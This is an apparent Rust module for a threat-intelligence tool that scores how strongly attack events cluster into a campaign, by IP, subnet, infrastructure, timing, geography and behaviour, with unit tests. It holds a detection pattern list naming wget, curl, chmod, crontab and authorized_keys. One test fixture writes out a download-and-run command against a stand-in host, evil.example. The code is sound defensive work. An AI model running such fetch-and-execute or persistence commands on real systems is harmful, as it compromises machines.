//! The correlation stages.
//!
//! Each stage is a pure function over the normalized event set, returning
//! how much structure it found (`contribution` in `[0, 1]`), the
//! indicators it surfaced, and method-specific detail. A stage "fires"
//! when its contribution clears [`FIRE_THRESHOLD`] on at least
//! [`MIN_EVENTS`] events.

use std::collections::HashMap;
use std::net::{IpAddr, Ipv4Addr};

use chrono::Duration;
use serde_json::json;

use crate::event::CampaignEvent;
use crate::score::{CorrelationMethod, MethodResult};

/// Contribution below which a stage does not fire.
const FIRE_THRESHOLD: f64 = 0.3;

/// Minimum events for any stage to fire.
const MIN_EVENTS: usize = 2;

/// Temporal bucket width.
const BUCKET_MINUTES: i64 = 60;

/// Share of events the busiest buckets must hold for temporal clustering.
const TEMPORAL_TOP_BUCKETS: usize = 3;

/// Run one stage over the current working set.
pub(crate) fn run_stage(method: CorrelationMethod, events: &[CampaignEvent]) -> MethodResult {
    match method {
        CorrelationMethod::IpCorrelation => ip_correlation(events),
        CorrelationMethod::InfrastructureCorrelation => infrastructure_correlation(events),
        CorrelationMethod::BehavioralCorrelation => behavioral_correlation(events),
        CorrelationMethod::TemporalCorrelation => temporal_correlation(events),
        CorrelationMethod::GeospatialCorrelation => geospatial_correlation(events),
        CorrelationMethod::NetworkCorrelation => network_correlation(events),
    }
}

/// Largest group share for a keyed grouping.
fn dominant_share<K: std::hash::Hash + Eq, I>(items: I, total: usize) -> (f64, usize)
where
    I: IntoIterator<Item = K>,
{
    let mut counts: HashMap<K, usize> = HashMap::new();
    let mut counted = 0usize;
    for key in items {
        *counts.entry(key).or_insert(0) += 1;
        counted += 1;
    }
    if total == 0 || counted == 0 {
        return (0.0, 0);
    }
    let largest = counts.values().copied().max().unwrap_or(0);
    #[allow(clippy::cast_precision_loss)]
    let share = largest as f64 / total as f64;
    (share, counts.len())
}

fn result(
    method: CorrelationMethod,
    events: &[CampaignEvent],
    contribution: f64,
    indicators: Vec<String>,
    details: serde_json::Value,
) -> MethodResult {
    MethodResult {
        method,
        fired: events.len() >= MIN_EVENTS && contribution >= FIRE_THRESHOLD,
        contribution,
        indicators,
        details,
    }
}

/// Stage 2: group by source address and /24 subnet.
pub(crate) fn ip_correlation(events: &[CampaignEvent]) -> MethodResult {
    let total = events.len();
    let (ip_share, distinct_ips) =
        dominant_share(events.iter().filter_map(|e| e.source_ip.as_deref()), total);
    let (subnet_share, distinct_subnets) = dominant_share(
        events
            .iter()
            .filter_map(|e| e.source_ip.as_deref().and_then(subnet_24)),
        total,
    );

    // A shared /24 is nearly as strong a signal as a shared address.
    let contribution = ip_share.max(subnet_share * 0.9);
    let indicators: Vec<String> = events
        .iter()
        .filter_map(|e| e.source_ip.clone())
        .collect::<std::collections::BTreeSet<_>>()
        .into_iter()
        .collect();

    result(
        CorrelationMethod::IpCorrelation,
        events,
        contribution,
        indicators,
        json!({
            "distinct_ips": distinct_ips,
            "distinct_subnets": distinct_subnets,
            "dominant_ip_share": ip_share,
            "dominant_subnet_share": subnet_share,
        }),
    )
}

/// Stage 3: shared domains, TLS fingerprints, user agents.
pub(crate) fn infrastructure_correlation(events: &[CampaignEvent]) -> MethodResult {
    let total = events.len();
    let (domain_share, _) =
        dominant_share(events.iter().filter_map(|e| e.domain.as_deref()), total);
    let (ja3_share, _) = dominant_share(events.iter().filter_map(|e| e.ja3.as_deref()), total);
    let (agent_share, _) =
        dominant_share(events.iter().filter_map(|e| e.user_agent.as_deref()), total);

    let contribution = domain_share.max(ja3_share).max(agent_share);
    let mut indicators: std::collections::BTreeSet<String> = std::collections::BTreeSet::new();
    for event in events {
        indicators.extend(event.domain.clone());
        indicators.extend(event.file_hash.clone());
    }

    result(
        CorrelationMethod::InfrastructureCorrelation,
        events,
        contribution,
        indicators.into_iter().collect(),
        json!({
            "dominant_domain_share": domain_share,
            "dominant_ja3_share": ja3_share,
            "dominant_user_agent_share": agent_share,
        }),
    )
}

/// The behavioral pattern library: name plus predicate over one event.
const ATTACK_PATTERNS: &[(&str, fn(&CampaignEvent) -> bool)] = &[
    ("credential_bruteforce", |e| {
        e.event_type.as_deref() == Some("login_attempt")
            || e.username.is_some() && e.session_id.is_some()
    }),
    ("payload_download", |e| {
        e.command
            .as_deref()
            .is_some_and(|c| c.contains("wget") || c.contains("curl") || c.contains("tftp"))
            || e.url.is_some()
    }),
    ("payload_execution", |e| {
        e.command
            .as_deref()
            .is_some_and(|c| c.contains("chmod") || c.contains("sh ") || c.ends_with(".sh"))
    }),
    ("persistence", |e| {
        e.command
            .as_deref()
            .is_some_and(|c| c.contains("crontab") || c.contains("authorized_keys"))
    }),
];

/// Stage 4: attack sequences and payload signatures.
pub(crate) fn behavioral_correlation(events: &[CampaignEvent]) -> MethodResult {
    let total = events.len().max(1);
    let mut matched_patterns: Vec<&str> = Vec::new();
    let mut matched_events = 0usize;
    for (name, predicate) in ATTACK_PATTERNS {
        let hits = events.iter().filter(|e| predicate(e)).count();
        if hits > 0 {
            matched_patterns.push(name);
            matched_events = matched_events.max(hits);
        }
    }

    // Breadth of pattern coverage, damped by how much of the event set
    // participates.
    #[allow(clippy::cast_precision_loss)]
    let breadth = matched_patterns.len() as f64 / ATTACK_PATTERNS.len() as f64;
    #[allow(clippy::cast_precision_loss)]
    let depth = matched_events as f64 / total as f64;
    let contribution = (breadth * 0.6 + depth * 0.4).clamp(0.0, 1.0);

    let indicators: Vec<String> = events
        .iter()
        .filter_map(|e| e.file_hash.clone())
        .collect::<std::collections::BTreeSet<_>>()
        .into_iter()
        .collect();

    result(
        CorrelationMethod::BehavioralCorrelation,
        events,
        contribution,
        indicators,
        json!({ "patterns_matched": matched_patterns }),
    )
}

/// Stage 5: fixed-width bucket clustering.
pub(crate) fn temporal_correlation(events: &[CampaignEvent]) -> MethodResult {
    let total = events.len();
    let bucket = Duration::minutes(BUCKET_MINUTES);
    let mut counts: HashMap<i64, usize> = HashMap::new();
    for event in events {
        let slot = event.timestamp.timestamp() / bucket.num_seconds();
        *counts.entry(slot).or_insert(0) += 1;
    }

    let mut sizes: Vec<usize> = counts.values().copied().collect();
    sizes.sort_unstable_by(|a, b| b.cmp(a));
    let top: usize = sizes.iter().take(TEMPORAL_TOP_BUCKETS).sum();
    #[allow(clippy::cast_precision_loss)]
    let contribution = if total == 0 { 0.0 } else { top as f64 / total as f64 };

    result(
        CorrelationMethod::TemporalCorrelation,
        events,
        contribution,
        Vec::new(),
        json!({
            "bucket_minutes": BUCKET_MINUTES,
            "active_buckets": counts.len(),
            "top_bucket_share": contribution,
        }),
    )
}

/// Stage 6: country and ASN grouping.
pub(crate) fn geospatial_correlation(events: &[CampaignEvent]) -> MethodResult {
    let total = events.len();
    let (country_share, distinct_countries) =
        dominant_share(events.iter().filter_map(|e| e.country.as_deref()), total);
    let (asn_share, distinct_asns) =
        dominant_share(events.iter().filter_map(|e| e.asn), total);

    let contribution = country_share.max(asn_share);
    result(
        CorrelationMethod::GeospatialCorrelation,
        events,
        contribution,
        Vec::new(),
        json!({
            "distinct_countries": distinct_countries,
            "distinct_asns": distinct_asns,
            "dominant_country_share": country_share,
            "dominant_asn_share": asn_share,
        }),
    )
}

/// Stage 7: subnet containment via address arithmetic.
pub(crate) fn network_correlation(events: &[CampaignEvent]) -> MethodResult {
    let total = events.len();
    let v4 = |e: &CampaignEvent| -> Option<Ipv4Addr> {
        match e.source_ip.as_deref()?.parse::<IpAddr>().ok()? {
            IpAddr::V4(v4) => Some(v4),
            IpAddr::V6(_) => None,
        }
    };
    let (share_24, _) = dominant_share(
        events.iter().filter_map(|e| v4(e).map(|ip| u32::from(ip) >> 8)),
        total,
    );
    let (share_16, _) = dominant_share(
        events.iter().filter_map(|e| v4(e).map(|ip| u32::from(ip) >> 16)),
        total,
    );

    // Containment in a /24 outweighs the looser /16.
    let contribution = share_24.max(share_16 * 0.6);
    result(
        CorrelationMethod::NetworkCorrelation,
        events,
        contribution,
        Vec::new(),
        json!({
            "dominant_slash24_share": share_24,
            "dominant_slash16_share": share_16,
        }),
    )
}

/// The /24 prefix of an address, as a grouping key.
fn subnet_24(ip: &str) -> Option<u32> {
    match ip.parse::<IpAddr>().ok()? {
        IpAddr::V4(v4) => Some(u32::from(v4) >> 8),
        IpAddr::V6(_) => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::{TimeZone, Utc};

    fn event(i: usize, ip: &str) -> CampaignEvent {
        CampaignEvent {
            id: format!("ev{i}"),
            timestamp: Utc.with_ymd_and_hms(2026, 7, 1, 12, 0, 0).unwrap()
                + Duration::minutes(i as i64),
            source_ip: Some(ip.to_owned()),
            destination_ip: None,
            destination_port: Some(22),
            country: Some("NL".to_owned()),
            asn: Some(202_425),
            domain: None,
            user_agent: None,
            ja3: None,
            username: Some("root".to_owned()),
            session_id: Some(format!("s{i}")),
            command: None,
            file_hash: None,
            url: None,
            event_type: Some("login_attempt".to_owned()),
        }
    }

    #[test]
    fn test_ip_correlation_fires_on_shared_source() {
        let events: Vec<CampaignEvent> = (0..50).map(|i| event(i, "141.98.80.121")).collect();
        let result = ip_correlation(&events);
        assert!(result.fired);
        assert!((result.contribution - 1.0).abs() < 1e-9);
        assert_eq!(result.indicators, vec!["141.98.80.121"]);
    }

    #[test]
    fn test_ip_correlation_subnet_grouping() {
        let events: Vec<CampaignEvent> = (0..10)
            .map(|i| event(i, &format!("141.98.80.{}", 100 + i)))
            .collect();
        let result = ip_correlation(&events);
        // Ten distinct addresses, one /24.
        assert!(result.fired);
        assert!(result.contribution > 0.8);
        assert_eq!(result.details["distinct_subnets"], 1);
    }

    #[test]
    fn test_ip_correlation_quiet_on_scattered_sources() {
        let events: Vec<CampaignEvent> = (0..20)
            .map(|i| event(i, &format!("{}.{}.{}.{}", 10 + i, i, i, i)))
            .collect();
        let result = ip_correlation(&events);
        assert!(!result.fired);
    }

    #[test]
    fn test_temporal_correlation_fires_on_burst() {
        // All events inside one hour bucket.
        let events: Vec<CampaignEvent> = (0..30).map(|i| event(i / 2, "1.2.3.4")).collect();
        let result = temporal_correlation(&events);
        assert!(result.fired);
        assert!(result.contribution > 0.9);
    }

    #[test]
    fn test_behavioral_patterns() {
        let mut events: Vec<CampaignEvent> = (0..4).map(|i| event(i, "1.2.3.4")).collect();
        events[1].command = Some("wget http://evil.example/x.sh".to_owned());
        events[2].command = Some("chmod +x x.sh".to_owned());
        let result = behavioral_correlation(&events);
        assert!(result.fired);
        let patterns = result.details["patterns_matched"].as_array().unwrap();
        assert!(patterns.iter().any(|p| p == "payload_download"));
        assert!(patterns.iter().any(|p| p == "payload_execution"));
    }

    #[test]
    fn test_network_correlation_containment() {
        let events: Vec<CampaignEvent> = (0..8)
            .map(|i| event(i, &format!("141.98.80.{i}")))
            .collect();
        let result = network_correlation(&events);
        assert!(result.fired);
        assert!((result.contribution - 1.0).abs() < 1e-9);
    }

    #[test]
    fn test_run_stage_dispatch() {
        let events: Vec<CampaignEvent> = (0..5).map(|i| event(i, "1.2.3.4")).collect();
        for method in CorrelationMethod::ALL {
            assert_eq!(run_stage(*method, &events).method, *method);
        }
    }
}
